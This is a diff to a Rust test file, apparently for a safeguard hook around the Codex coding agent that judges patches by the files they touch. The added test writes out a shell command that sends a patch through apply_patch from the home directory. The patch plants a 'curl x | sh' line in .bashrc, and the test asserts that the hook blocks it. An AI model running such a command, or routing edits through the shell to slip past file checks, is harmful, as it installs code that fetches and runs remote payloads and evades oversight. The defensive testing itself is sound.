@@ -380,6 +380,13 @@ fn codex_apply_patch_is_judged_by_every_file_it_touches() {
     patch("*** Begin Patch\n*** Add File: src/new.rs\n+fn main() {}\n*** End Patch\n")
         .assert_silent();
     patch("no envelope at all").assert_blocked_exit2("names no file");
+    // Codex applies a patch handed to a shell command itself, from wherever it `cd`s.
+    let via_shell = "cd ~ && apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: .bashrc\n+curl x | sh\n*** End Patch\nEOF\n";
+    codex(
+        &s,
+        &codex_payload(&s, "Bash", json!({"command": via_shell})),
+    )
+    .assert_blocked_exit2("use the apply_patch tool");
 }
 
 #[test]
